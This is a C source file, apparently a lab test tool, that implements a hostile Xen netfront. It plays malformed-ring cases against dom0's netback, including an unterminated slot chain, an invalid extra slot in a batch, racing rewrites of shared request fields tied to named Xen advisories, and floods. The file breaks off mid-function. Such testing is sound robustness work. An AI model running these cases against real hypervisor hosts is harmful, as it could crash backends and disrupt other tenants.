// SPDX-License-Identifier: GPL-2.0
/*
 * hostfe: a hostile netfront, in user space, for the lab scenario
 * tests/lab/hostile-fe.  It runs in a guest booted without netfront
 * (GFE=none), takes over device/vif/0 and plays one named case against
 * the backend in dom0:
 *
 *   hostfe CASE [--seed N] [--secs S] [--sync] [--port P]
 *   hostfe list                      every case, one line each
 *   hostfe send ADDR PORT SECS PPS BYTES   (dom0) UDP sender
 *   hostfe recv PORT FILE            (dom0) UDP receiver: count in FILE
 *
 * A case prints "case NAME: what it does", progress lines, and a last
 * line "result NAME: ..." with what it saw (tx/rx responses by status,
 * events, the backend's state, whether the backend still served the ring
 * afterwards).  It exits 0 when the case could be played, 1 when it could
 * not (no backend, no grants), whatever the backend did.
 *
 * Everything is done with the guest's own devices: grants from
 * /dev/xen/gntalloc (granted to domain 0), event channels from
 * /dev/xen/evtchn, XenStore through /dev/xen/xenbus with its wire
 * protocol written out here.  The ring layouts follow
 * include/xen/interface/io/netif.h and ring.h, restated below because
 * those headers are not user-space headers: a shared ring page is a
 * 64-byte header (req_prod, req_event, rsp_prod, rsp_event, padding) and
 * 256 slots; tx slots are 12 bytes, rx slots 8, control slots 16 (128 of
 * them).
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
/* the uapi headers use the hypervisor interface's names */
typedef uint16_t domid_t;
#include <xen/evtchn.h>
#include <xen/gntalloc.h>

#define PAGE		4096
#define RING_HDR	64
#define SLOTS		256
#define CTRL_SLOTS	128
#define NDATA		64	/* tx data pages, and as many rx pages */
#define BAD_GREF	0x7ffff0u	/* never granted by this guest */

/* netif.h values (see the header comment) */
#define TXF_CSUM_BLANK	(1 << 0)
#define TXF_VALIDATED	(1 << 1)
#define TXF_MORE	(1 << 2)
#define TXF_EXTRA	(1 << 3)
#define RXF_MORE	(1 << 2)
#define RXF_EXTRA	(1 << 3)
#define EXTRA_GSO	1
#define EXTRA_MAX	6
#define EXTRA_MORE	1
#define GSO_TCPV4	1
#define RSP_DROPPED	(-2)
#define RSP_ERROR	(-1)
#define RSP_OKAY	0
#define RSP_NULL	1
#define CTRL_SET_FLAGS	2
#define CTRL_SET_MAPSIZE 5
#define CTRL_SET_MAPPING 6
#define CTRL_SET_ALG	7
#define CTRL_ALG_TOEPLITZ 1
#define CTRL_GET_GREF_SIZE 8	/* staging grants */
#define CTRL_ADD_GREF	9
#define CTRL_DEL_GREF	10
#define GREF_RO		1

/* xenstore wire protocol (xen/include/public/io/xs_wire.h) */
#define XS_WATCH	4
#define XS_READ		2
#define XS_MKDIR	12
#define XS_WRITE	11
#define XS_RM		13
#define XS_WATCH_EVENT	15
#define XS_ERROR	16

struct xs_hdr {
	uint32_t type, req_id, tx_id, len;
};

struct tx_req {
	uint32_t gref;
	uint16_t offset, flags, id, size;
};

struct tx_rsp {
	uint16_t id;
	int16_t status;
};

struct extra {
	uint8_t type, flags;
	uint16_t gso_size;
	uint8_t gso_type, pad;
	uint16_t features;
};

struct rx_req {
	uint16_t id, pad;
	uint32_t gref;
};

struct rx_rsp {
	uint16_t id, offset, flags;
	int16_t status;
};

struct ctrl_req {
	uint16_t id, type;
	uint32_t data[3];
};

struct ctrl_rsp {
	uint16_t id, type;
	uint32_t status, data;
};

struct sring {
	volatile uint32_t req_prod, req_event, rsp_prod, rsp_event;
};

/* --- small things ---------------------------------------------------------- */

static const char *cname = "?";
static unsigned long long opt_seed;
static int opt_secs = 3, opt_sync, opt_port = 7000;

static void die(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fprintf(stdout, "hostfe %s: cannot play: ", cname);
	vfprintf(stdout, fmt, ap);
	fprintf(stdout, "\nresult %s: not played\n", cname);
	va_end(ap);
	fflush(stdout);
	exit(1);
}

static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(stdout, fmt, ap);
	va_end(ap);
	fputc('\n', stdout);
	fflush(stdout);
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void msleep(unsigned int ms)
{
	usleep(ms * 1000);
}

/* xorshift64*: the whole random sequence follows from --seed */
static uint64_t rng_state = 1;

static uint32_t rnd(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (uint32_t)((rng_state * 2685821657736338717ULL) >> 32);
}

static uint32_t rnd_below(uint32_t n)
{
	return n ? rnd() % n : 0;
}

#define wmb()	__atomic_thread_fence(__ATOMIC_RELEASE)
#define rmb()	__atomic_thread_fence(__ATOMIC_ACQUIRE)
#define mb()	__atomic_thread_fence(__ATOMIC_SEQ_CST)

/* --- xenstore ---------------------------------------------------------------- */

static int xs_fd = -1;
static uint32_t xs_rid;
static unsigned long xs_watch_events;

static int full_read(int fd, void *buf, size_t len)
{
	size_t got = 0;
	ssize_t n;

	while (got < len) {
		n = read(fd, (char *)buf + got, len - got);
		if (n <= 0) {
			if (n < 0 && errno == EINTR)
				continue;
			return -1;
		}
		got += n;
	}
	return 0;
}

/*
 * One request; the reply body (NUL-terminated) in out.  Returns the reply
 * length, or -1 on an XS_ERROR reply (its text in out) or a broken device.
 * Watch events that arrive meanwhile are counted and skipped.
 */
static int xs_req(uint32_t type, const void *a, size_t alen, const void *b,
		  size_t blen, char *out, size_t outlen)
{
	char msg[4096 + sizeof(struct xs_hdr)], body[4097];
	struct xs_hdr h = { type, ++xs_rid, 0, alen + blen };
	struct xs_hdr r;

	if (alen + blen > 4096)
		return -1;
	memcpy(msg, &h, sizeof(h));
	memcpy(msg + sizeof(h), a, alen);
	if (blen)
		memcpy(msg + sizeof(h) + alen, b, blen);
	if (write(xs_fd, msg, sizeof(h) + alen + blen) !=
	    (ssize_t)(sizeof(h) + alen + blen))
		return -1;
	for (;;) {
		if (full_read(xs_fd, &r, sizeof(r)) || r.len > 4096 ||
		    full_read(xs_fd, body, r.len))
			return -1;
		body[r.len] = 0;
		if (r.type == XS_WATCH_EVENT) {
			xs_watch_events++;
			continue;
		}
		if (r.req_id != h.req_id)
			continue;
		if (out) {
			size_t n = r.len < outlen - 1 ? r.len : outlen - 1;

			memcpy(out, body, n);
			out[n] = 0;
		}
		return r.type == XS_ERROR ? -1 : (int)r.len;
	}
}

static int xs_read(const char *path, char *out, size_t outlen)
{
	return xs_req(XS_READ, path, strlen(path) + 1, NULL, 0, out, outlen);
}

static int xs_write(const char *path, const char *val)
{
	return xs_req(XS_WRITE, path, strlen(path) + 1, val, strlen(val),
		      NULL, 0) < 0 ? -1 : 0;
}

static int xs_rm(const char *path)
{
	return xs_req(XS_RM, path, strlen(path) + 1, NULL, 0, NULL, 0) < 0 ?
	       -1 : 0;
}

static long xs_read_long(const char *path, long dflt)
{
	char buf[64];

	if (xs_read(path, buf, sizeof(buf)) < 0)
		return dflt;
	return strtol(buf, NULL, 10);
}

/* --- the vif: paths, grants, event channels -------------------------------- */

static char fe[128], be[256];
static int domid;
static uint8_t mymac[6];
static uint32_t myip, dom0ip;

static int ga_fd = -1;
static uint8_t *pages;		/* every granted page, in one mapping */
static uint32_t *grefs;
#define NPAGES		(4 + 2 * NDATA)
#define PG_TX		0
#define PG_RX		1
#define PG_CTRL		2
#define PG_CTRLDATA	3
#define PG_TXDATA(i)	(4 + (i))
#define PG_RXDATA(i)	(4 + NDATA + (i))

static int ev_fd = -1;
static uint32_t port, ctrl_port;
static unsigned long events, notifies;

static struct sring *txs, *rxs, *ctrls;
static uint32_t tx_prod, tx_cons, rx_prod, rx_cons, ctrl_prod, ctrl_cons;

/* counters of what the backend answered */
static unsigned long tx_st[4];	/* OKAY, ERROR, DROPPED, NULL */
static int rx_extra_pending;
static unsigned long tx_other, rx_pkts, rx_bytes, rx_err, rx_slots;

static uint8_t *page(int i)
{
	return pages + (size_t)i * PAGE;
}

static struct tx_req *tx_slot(uint32_t i)
{
	return (struct tx_req *)(page(PG_TX) + RING_HDR + (i % SLOTS) * 12);
}

static struct rx_req *rx_slot(uint32_t i)
{
	return (struct rx_req *)(page(PG_RX) + RING_HDR + (i % SLOTS) * 8);
}

static void grants_alloc(void)
{
	struct ioctl_gntalloc_alloc_gref *op;
	size_t sz = sizeof(*op) + NPAGES * sizeof(uint32_t);

	ga_fd = open("/dev/xen/gntalloc", O_RDWR);
	if (ga_fd < 0)
		die("/dev/xen/gntalloc: %s", strerror(errno));
	op = calloc(1, sz);
	op->domid = 0;
	op->flags = GNTALLOC_FLAG_WRITABLE;
	op->count = NPAGES;
	if (ioctl(ga_fd, IOCTL_GNTALLOC_ALLOC_GREF, op))
		die("gntalloc %d pages: %s", NPAGES, strerror(errno));
	pages = mmap(NULL, (size_t)NPAGES * PAGE, PROT_READ | PROT_WRITE,
		     MAP_SHARED, ga_fd, op->index);
	if (pages == MAP_FAILED)
		die("mmap of the granted pages: %s", strerror(errno));
	grefs = malloc(NPAGES * sizeof(uint32_t));
	memcpy(grefs, op->gref_ids, NPAGES * sizeof(uint32_t));
	free(op);
	memset(pages, 0, (size_t)NPAGES * PAGE);
}

static uint32_t bind_port(void)
{
	struct ioctl_evtchn_bind_unbound_port op = { .remote_domain = 0 };
	int r;

	r = ioctl(ev_fd, IOCTL_EVTCHN_BIND_UNBOUND_PORT, &op);
	if (r < 0)
		die("binding an unbound event channel: %s", strerror(errno));
	return r;
}

static void notify_port(uint32_t p)
{
	struct ioctl_evtchn_notify op = { .port = p };

	ioctl(ev_fd, IOCTL_EVTCHN_NOTIFY, &op);
	notifies++;
}

static void notify(void)
{
	notify_port(port);
}

/* Take every pending event (and unmask its port) */
static void drain_events(void)
{
	uint32_t p[16];
	ssize_t n;

	while ((n = read(ev_fd, p, sizeof(p))) > 0) {
		events += n / 4;
		if (write(ev_fd, p, n) != n)
			break;
	}
}

static int be_state(void)
{
	char path[300];

	snprintf(path, sizeof(path), "%s/state", be);
	return (int)xs_read_long(path, -1);
}

static int wait_be(int want, int secs, int alt)
{
	double end = now_s() + secs;
	int s;

	do {
		s = be_state();
		if (s == want || (alt && s == alt))
			return s;
		msleep(50);
	} while (now_s() < end);
	return s;
}

static void fe_key(const char *key, const char *fmt, ...)
{
	char path[256], val[128];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(val, sizeof(val), fmt, ap);
	va_end(ap);
	snprintf(path, sizeof(path), "%s/%s", fe, key);
	if (xs_write(path, val))
		say("  (writing %s=%s failed)", key, val);
}

static void fe_rm(const char *key)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/%s", fe, key);
	xs_rm(path);
}

static void fe_clear(void)
{
	static const char *const keys[] = {
		"tx-ring-ref", "rx-ring-ref", "event-channel",
		"event-channel-tx", "event-channel-rx",
		"multi-queue-num-queues", "request-rx-copy",
		"feature-rx-notify", "feature-sg", "feature-gso-tcpv4",
		"ctrl-ring-ref", "event-channel-ctrl", "queue-0", "queue-1",
		"flood",
	};
	unsigned int i;

	for (i = 0; i < sizeof(keys) / sizeof(keys[0]); i++)
		fe_rm(keys[i]);
}

/*
 * Frontend Closed then Initialising, as netback-badkeys' fe_reset does:
 * the backend back in InitWait, whatever a previous case left.
 */
static int fe_reset(void)
{
	int s = be_state();

	if (s != 2) {
		fe_key("state", "6");
		wait_be(6, 20, 0);
		fe_clear();
		fe_key("state", "1");
		s = wait_be(2, 20, 0);
	} else {
		fe_clear();
		fe_key("state", "1");
	}
	return s;
}

static void setup_paths(void)
{
	char buf[256];
	unsigned int m[6];

	xs_fd = open("/dev/xen/xenbus", O_RDWR);
	if (xs_fd < 0)
		die("/dev/xen/xenbus: %s", strerror(errno));
	if (xs_read("domid", buf, sizeof(buf)) < 0)
		die("reading domid");
	domid = atoi(buf);
	snprintf(fe, sizeof(fe), "/local/domain/%d/device/vif/0", domid);
	snprintf(buf, sizeof(buf), "%s/backend", fe);
	if (xs_read(buf, be, sizeof(be)) < 0)
		die("no %s", buf);
	snprintf(buf, sizeof(buf), "%s/mac", fe);
	if (xs_read(buf, buf, sizeof(buf)) < 0 ||
	    sscanf(buf, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4],
		   &m[5]) != 6)
		die("no mac in %s", fe);
	for (int i = 0; i < 6; i++)
		mymac[i] = m[i];
	/* the lab's link: 169.254.S.2 (us) and .1 (dom0), S = domid % 250 + 1 */
	myip = htonl(0xa9fe0002u | ((domid % 250 + 1) << 8));
	dom0ip = htonl(0xa9fe0001u | ((domid % 250 + 1) << 8));
}

struct conn_opts {
	int sg, gso, ctrl;
	const char *queues;	/* multi-queue-num-queues, or NULL */
	int no_rx_copy;
	int no_rx_notify;	/* leave out feature-rx-notify */
};

static void rings_init(void)
{
	memset(page(PG_TX), 0, PAGE);
	memset(page(PG_RX), 0, PAGE);
	memset(page(PG_CTRL), 0, PAGE);
	txs = (struct sring *)page(PG_TX);
	rxs = (struct sring *)page(PG_RX);
	ctrls = (struct sring *)page(PG_CTRL);
	txs->req_event = rxs->req_event = ctrls->req_event = 1;
	txs->rsp_event = rxs->rsp_event = ctrls->rsp_event = 1;
	tx_prod = tx_cons = rx_prod = rx_cons = ctrl_prod = ctrl_cons = 0;
	rx_extra_pending = 0;
}

/* Keys, state Connected; returns the backend state reached (4 = up). */
static int fe_connect(const struct conn_opts *o)
{
	int s;

	s = fe_reset();
	if (s != 2)
		say("  backend state %d after the reset, not 2 (InitWait)", s);
	rings_init();
	fe_key("tx-ring-ref", "%u", grefs[PG_TX]);
	fe_key("rx-ring-ref", "%u", grefs[PG_RX]);
	fe_key("event-channel", "%u", port);
	fe_key("request-rx-copy", "%d", o->no_rx_copy ? 0 : 1);
	if (!o->no_rx_notify)
		fe_key("feature-rx-notify", "1");
	if (o->sg)
		fe_key("feature-sg", "1");
	if (o->gso)
		fe_key("feature-gso-tcpv4", "1");
	if (o->queues)
		fe_key("multi-queue-num-queues", "%s", o->queues);
	if (o->ctrl) {
		fe_key("ctrl-ring-ref", "%u", grefs[PG_CTRL]);
		fe_key("event-channel-ctrl", "%u", ctrl_port);
	}
	fe_key("state", "4");
	s = wait_be(4, 20, 5);
	if (s == 4)
		msleep(100);
	return s;
}

static void fe_close(void)
{
	fe_key("state", "6");
	wait_be(6, 10, 0);
}

/* --- frames ---------------------------------------------------------------- */

static uint16_t ip_csum(const uint8_t *p, int len)
{
	uint32_t s = 0;

	for (int i = 0; i < len; i += 2)
		s += (p[i] << 8) | p[i + 1];
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons(~s & 0xffff);
}

/* An Ethernet/IPv4/UDP frame to dom0's end of the link; returns its length */
static int build_udp(uint8_t *f, int payload, int dport)
{
	static uint16_t ipid;
	int iplen = 20 + 8 + payload;
	uint16_t v;

	memset(f, 0xff, 6);		/* dom0's vif: fe:ff:ff:ff:ff:ff */
	f[0] = 0xfe;
	memcpy(f + 6, mymac, 6);
	f[12] = 0x08;
	f[13] = 0x00;
	uint8_t *ip = f + 14;
	memset(ip, 0, 20);
	ip[0] = 0x45;
	v = htons(iplen);
	memcpy(ip + 2, &v, 2);
	v = htons(++ipid);
	memcpy(ip + 4, &v, 2);
	ip[6] = 0x40;
	ip[8] = 64;
	ip[9] = 17;
	memcpy(ip + 12, &myip, 4);
	memcpy(ip + 16, &dom0ip, 4);
	v = ip_csum(ip, 20);
	memcpy(ip + 10, &v, 2);
	uint8_t *u = ip + 20;
	v = htons(40000);
	memcpy(u, &v, 2);
	v = htons(dport);
	memcpy(u + 2, &v, 2);
	v = htons(8 + payload);
	memcpy(u + 4, &v, 2);
	u[6] = u[7] = 0;		/* no UDP checksum (IPv4 allows it) */
	for (int i = 0; i < payload; i++)
		u[8 + i] = (uint8_t)(i * 7 + 3);
	return 14 + iplen;
}

/* --- tx ring ---------------------------------------------------------------- */

static void put_tx(uint32_t idx, uint32_t gref, uint16_t off, uint16_t flags,
		   uint16_t id, uint16_t size)
{
	struct tx_req r = { gref, off, flags, id, size };

	memcpy(tx_slot(idx), &r, sizeof(r));
}

static void put_extra(uint32_t idx, uint8_t type, uint8_t flags,
		      uint16_t gso_size, uint8_t gso_type)
{
	struct extra e = { type, flags, gso_size, gso_type, 0, 0 };

	memset(tx_slot(idx), 0, 12);
	memcpy(tx_slot(idx), &e, sizeof(e));
}

static void tx_push(void)
{
	wmb();
	txs->req_prod = tx_prod;
	mb();
	notify();
}

static void tx_reap(void)
{
	uint32_t prod = txs->rsp_prod;
	struct tx_rsp r;

	rmb();
	if (prod - tx_cons > SLOTS) {
		tx_other++;
		return;
	}
	while (tx_cons != prod) {
		memcpy(&r, tx_slot(tx_cons), sizeof(r));
		switch (r.status) {
		case RSP_OKAY: tx_st[0]++; break;
		case RSP_ERROR: tx_st[1]++; break;
		case RSP_DROPPED: tx_st[2]++; break;
		case RSP_NULL: tx_st[3]++; break;
		default: tx_other++;
		}
		tx_cons++;
	}
	txs->rsp_event = tx_cons + 1;
	mb();
}

static unsigned int tx_free(void)
{
	return SLOTS - (tx_prod - tx_cons);
}

static uint32_t next_data;

/* Queue one valid frame of @payload bytes in one slot; returns 0 if full */
static int tx_valid(int payload, uint16_t id)
{
	int pg, len;

	if (tx_free() < 1)
		return 0;
	pg = next_data++ % NDATA;
	len = build_udp(page(PG_TXDATA(pg)), payload, opt_port);
	put_tx(tx_prod++, grefs[PG_TXDATA(pg)], 0, TXF_VALIDATED, id, len);
	return 1;
}

/*
 * One valid frame split over @n slots: slot i > 0 carries sizes[i]
 * bytes, slot 0 the rest; all slots point into the same page at the
 * offsets of their bytes.
 */
static int tx_split(int payload, int n, const uint16_t *sizes, uint16_t id0)
{
	int pg = next_data++ % NDATA, len, rest, off, i;

	if ((int)tx_free() < n)
		return 0;
	len = build_udp(page(PG_TXDATA(pg)), payload, opt_port);
	rest = len;
	for (i = 1; i < n; i++)
		rest -= sizes[i];
	if (rest < 0)
		rest = 0;
	off = 0;
	for (i = 0; i < n; i++) {
		int sz = i ? sizes[i] : len;
		int here = i ? sizes[i] : rest;

		put_tx(tx_prod++, grefs[PG_TXDATA(pg)], off,
		       (i < n - 1 ? TXF_MORE : 0) | TXF_VALIDATED,
		       id0 + i, sz);
		off += here;
		if (off >= PAGE)
			off = PAGE - 1;
	}
	return 1;
}

/* --- rx ring ---------------------------------------------------------------- */


static void rx_post_quiet(int n, uint32_t gref_override);

static void rx_post(int n, uint32_t gref_override)
{
	rx_post_quiet(n, gref_override);
	notify();
}

/* Post @n rx buffers with no event: the backend must find them itself. */
static void rx_post_quiet(int n, uint32_t gref_override)
{
	for (int i = 0; i < n; i++) {
		struct rx_req r;

		r.id = rx_prod % SLOTS;
		r.pad = 0;
		r.gref = gref_override ? gref_override :
			 grefs[PG_RXDATA(rx_prod % NDATA)];
		memcpy(rx_slot(rx_prod), &r, sizeof(r));
		rx_prod++;
	}
	wmb();
	rxs->req_prod = rx_prod;
	mb();
}

/* Count what the backend delivered; with @refill, post as many again */
static int rx_reap(int refill)
{
	uint32_t prod = rxs->rsp_prod;
	struct rx_rsp r;
	int n = 0;

	rmb();
	if (prod - rx_cons > SLOTS)
		return 0;
	while (rx_cons != prod) {
		memcpy(&r, rx_slot(rx_cons), sizeof(r));
		rx_cons++;
		rx_slots++;
		n++;
		if (rx_extra_pending) {
			/* an extra-info slot: its flags say if more follow */
			struct extra e;

			memcpy(&e, &r, sizeof(e));
			rx_extra_pending = e.flags & EXTRA_MORE;
			continue;
		}
		if (r.status < 0) {
			rx_err++;
			continue;
		}
		rx_bytes += r.status;
		if (r.flags & RXF_EXTRA)
			rx_extra_pending = 1;
		if (!(r.flags & RXF_MORE))
			rx_pkts++;
	}
	rxs->rsp_event = rx_cons + 1;
	mb();
	if (refill && n) {
		/* keep at most NDATA posted: each posted slot its own page */
		int room = NDATA - (int)(rx_prod - rx_cons);

		if (room > 0)
			rx_post(room, 0);
	}
	return n;
}

/* Reap both rings and take events for @ms milliseconds */
static void pump(int ms, int refill)
{
	double end = now_s() + ms / 1000.0;

	do {
		tx_reap();
		rx_reap(refill);
		drain_events();
		msleep(1);
	} while (now_s() < end);
}

/* --- the cases -------------------------------------------------------------- */

static int served_check(void);

static void report(const char *extra_fmt, ...)
{
	char extra[600] = "";
	va_list ap;
	int s = be_state();

	if (extra_fmt) {
		va_start(ap, extra_fmt);
		vsnprintf(extra, sizeof(extra), extra_fmt, ap);
		va_end(ap);
	}
	say("result %s: tx rsp okay=%lu error=%lu dropped=%lu null=%lu other=%lu; "
	    "rx pkts=%lu err=%lu slots=%lu; events=%lu notifies=%lu; "
	    "backend state %d; ring served after: %s%s%s", cname, tx_st[0],
	    tx_st[1], tx_st[2], tx_st[3], tx_other, rx_pkts, rx_err, rx_slots,
	    events, notifies, s, s == 4 ? (served_check() ? "yes" : "no") :
	    "n/a (not connected)", extra[0] ? "; " : "", extra);
}

/* One valid frame: is it answered within 2 s? */
static int served_check(void)
{
	unsigned long ok = tx_st[0];
	double end = now_s() + 2;

	tx_reap();
	if (tx_free() < 1)
		return 0;
	tx_valid(64, 0x77);
	tx_push();
	while (now_s() < end) {
		tx_reap();
		if (tx_st[0] > ok)
			return 1;
		msleep(5);
	}
	return 0;
}

static int connect_or_report(const struct conn_opts *o)
{
	int s = fe_connect(o);

	if (s != 4) {
		say("  backend did not connect: state %d", s);
		return 0;
	}
	say("  connected: tx-ring-ref %u rx-ring-ref %u event-channel %u",
	    grefs[PG_TX], grefs[PG_RX], port);
	return 1;
}

static const struct conn_opts plain = { .sg = 1 };

/* the frontend's data dir in XenStore: dom0 may write our data/ keys */
static void sync_point(const char *phase, int secs)
{
	char path[128], buf[32];
	double end = now_s() + secs;

	if (!opt_sync)
		return;
	snprintf(path, sizeof(path), "/local/domain/%d/data/hf-go", domid);
	xs_rm(path);
	snprintf(buf, sizeof(buf), "/local/domain/%d/data/hf-phase", domid);
	xs_write(buf, phase);
	say("  sync: %s, waiting up to %d s for data/hf-go", phase, secs);
	while (now_s() < end) {
		if (xs_read(path, buf, sizeof(buf)) >= 0) {
			say("  sync: go after %.1f s", secs - (end - now_s()));
			return;
		}
		pump(200, 0);
	}
	say("  sync: no go within %d s, going on", secs);
}

static void case_honest(void)
{
	int sent = 0;

	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	for (int i = 0; i < 20; i++) {
		sent += tx_valid(200, i);
		tx_push();
		pump(20, 1);
	}
	pump(1500, 1);
	report("sent %d valid frames; verdict %s", sent,
	       tx_st[0] >= (unsigned long)sent && rx_pkts > 0 &&
	       be_state() == 4 ? "honest-ok" : "honest-broken");
}

/*
 * A frontend that does not offer feature-rx-notify (old or minimal ones):
 * the in-tree backend connects it and polls its rx ring, so packets reach
 * it although it never signals new buffers.  One buffer is posted with an
 * event and used up by dom0's frames; then the rest are posted with none,
 * and what dom0 sends after must still arrive.
 */
static const struct conn_opts no_notify = { .sg = 1, .no_rx_notify = 1 };

static void case_no_rx_notify(void)
{
	unsigned long first;

	if (!connect_or_report(&no_notify))
		return report(NULL);
	rx_post(1, 0);
	for (int i = 0; i < 100 && !rx_pkts; i++)
		pump(100, 0);
	first = rx_pkts;
	rx_post_quiet(NDATA - 1, 0);
	for (int i = 0; i < opt_secs * 10 && rx_pkts == first; i++)
		pump(100, 0);
	report("packets into the first buffer %lu, into those posted with no event %lu; verdict %s",
	       first, rx_pkts - first,
	       first && rx_pkts > first && be_state() == 4 ? "ok" : "bad");
}

static void flood(double secs)
{
	double end = now_s() + secs;
	unsigned long n = 0;

	rx_post(NDATA, 0);
	while (now_s() < end) {
		int k = 0;

		while (tx_free() > 0 && k < 32)
			k += tx_valid(1000, n++ & 0xff);
		tx_push();
		pump(2, 1);
	}
	say("  queued %lu valid frames in %.0f s", n, secs);
}

static void case_honest_flood(void)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	flood(opt_secs);
	pump(300, 1);
	report(NULL);
}

static void case_vanish(void)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	say("  flooding until the domain is destroyed (or %d s)", opt_secs);
	flood(opt_secs);
	report(NULL);
}

/* A malformed packet pushed alone, then what the backend did */
static void play_and_report(void (*put)(void), int ms)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	put();
	tx_push();
	pump(ms, 1);
	report(NULL);
}

static void put_open_chain(void)
{
	/* more-data on the last slot produced: the chain never ends */
	int pg = PG_TXDATA(0);
	int len = build_udp(page(pg), 300, opt_port);

	put_tx(tx_prod++, grefs[pg], 0, TXF_MORE, 1, len);
	put_tx(tx_prod++, grefs[pg], 200, TXF_MORE, 2, 100);
}

static void case_xsa39(void)
{
	play_and_report(put_open_chain, 1500);
}

static void put_fatal_in_batch(void)
{
	int i;

	for (i = 0; i < 30; i++)
		tx_valid(200, i);
	/* an extra of type 0 (NONE): invalid, in the middle of a batch */
	put_tx(tx_prod, grefs[PG_TXDATA(60)], 0, TXF_EXTRA, 100, 200);
	build_udp(page(PG_TXDATA(60)), 150, opt_port);
	tx_prod++;
	put_extra(tx_prod++, 0, 0, 0, 0);
	for (i = 0; i < 10; i++)
		tx_valid(200, 200 + i);
}

static void case_xsa90(void)
{
	play_and_report(put_fatal_in_batch, 1500);
}

/* XSA-155: a thread rewrites sizes and flags while the backend reads */
static volatile int rewriting;
static unsigned long rewrites;

static void *rewriter(void *arg)
{
	uint64_t x = opt_seed | 1;

	(void)arg;
	while (rewriting) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		struct tx_req *r = tx_slot((uint32_t)x);
		volatile uint16_t *sz = &r->size, *fl = &r->flags;

		*sz = (uint16_t)(x >> 16);
		*fl = (uint16_t)((x >> 32) & 0xf);
		rewrites++;
	}
	return NULL;
}

static void case_xsa155(void)
{
	pthread_t t;
	double end;
	unsigned long n = 0;

	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	rewriting = 1;
	pthread_create(&t, NULL, rewriter, NULL);
	end = now_s() + opt_secs;
	while (now_s() < end && be_state() == 4) {
		while (tx_free() > 0)
			n += tx_valid(300, n & 0xff);
		tx_push();
		pump(5, 1);
	}
	rewriting = 0;
	pthread_join(t, NULL);
	say("  %lu requests queued, %lu rewrites of a size or flags field",
	    n, rewrites);
	pump(500, 1);
	report(NULL);
}

/* --- control ring (XSA-270, staging grants) ---------------------------------- */

static uint32_t ctrl_data;	/* data of the last control response */

static int ctrl_call(uint16_t type, uint32_t d0, uint32_t d1, uint32_t d2,
		     uint32_t *status)
{
	struct ctrl_req q = { ctrl_prod & 0xffff, type, { d0, d1, d2 } };
	struct ctrl_rsp r;
	double end = now_s() + 3;

	memcpy(page(PG_CTRL) + RING_HDR + (ctrl_prod % CTRL_SLOTS) * 16, &q,
	       sizeof(q));
	ctrl_prod++;
	wmb();
	ctrls->req_prod = ctrl_prod;
	mb();
	notify_port(ctrl_port);
	while (now_s() < end) {
		if (ctrls->rsp_prod != ctrl_cons) {
			rmb();
			memcpy(&r, page(PG_CTRL) + RING_HDR +
			       (ctrl_cons % CTRL_SLOTS) * 16, sizeof(r));
			ctrl_cons++;
			ctrls->rsp_event = ctrl_cons + 1;
			*status = r.status;
			ctrl_data = r.data;
			return 0;
		}
		drain_events();
		msleep(2);
	}
	return -1;
}

/* 1 when the backend offers the control ring; else reports and 0 */
static int have_ctrl(void)
{
	char path[300], buf[16];

	snprintf(path, sizeof(path), "%s/feature-ctrl-ring", be);
	if (xs_read(path, buf, sizeof(buf)) >= 0 && atoi(buf) == 1)
		return 1;
	say("  backend offers no feature-ctrl-ring: nothing to attack");
	report("verdict ok (no control ring)");
	return 0;
}

struct gref_ent {
	uint32_t ref;
	uint16_t flags, status;
};

/* The list page (PG_CTRLDATA): @n entries, refs[i] or @ref for all */
static void gref_list(const uint32_t *refs, uint32_t ref, int n,
		      uint16_t flags)
{
	struct gref_ent *e = (struct gref_ent *)page(PG_CTRLDATA);

	for (int i = 0; i < n && i < PAGE / 8; i++) {
		e[i].ref = refs ? refs[i] : ref;
		e[i].flags = flags;
		e[i].status = 0xffff;
	}
}

/*
 * One ADD or DEL of the list page's first @n entries for @queue; counts a
 * wrong answer in *@bad: a status other than success when @must_fail is
 * 0, success when it is 1.  Returns the status (-1: no answer).
 */
static long gref_call(const char *what, uint16_t type, uint32_t queue,
		      uint32_t n, int must_fail, int *bad)
{
	uint32_t st;

	if (ctrl_call(type, queue, grefs[PG_CTRLDATA], n, &st)) {
		say("  %s: no response", what);
		(*bad)++;
		return -1;
	}
	say("  %s %s: status %u data %u (%s)", type == CTRL_ADD_GREF ?
	    "ADD" : "DEL", what, st, ctrl_data,
	    (st != 0) == must_fail ? "as it must" : "WRONG");
	*bad += (st != 0) != must_fail;
	return st;
}

/* Connected with a control ring; 1 if the backend maps staging grants */
static int staging_up(void)
{
	struct conn_opts o = plain;
	uint32_t st;

	if (!have_ctrl())
		return 0;
	o.ctrl = 1;
	if (!connect_or_report(&o)) {
		report(NULL);
		return 0;
	}
	if (ctrl_call(CTRL_GET_GREF_SIZE, 0, 0, 0, &st)) {
		report("verdict bad (no control ring response)");
		return 0;
	}
	say("  GET_GREF_MAPPING_SIZE: status %u, %u grants", st, ctrl_data);
	if (st) {
		rx_post(NDATA, 0);
		pump(300, 1);
		report("verdict ok (no staging grants)");
		return 0;
	}
	return 1;
}

static void case_staging_lists(void)
{
	uint32_t tx[NDATA], rx[NDATA];
	struct gref_ent *e = (struct gref_ent *)page(PG_CTRLDATA);
	int bad = 0, i, n = 0;
	uint32_t st;

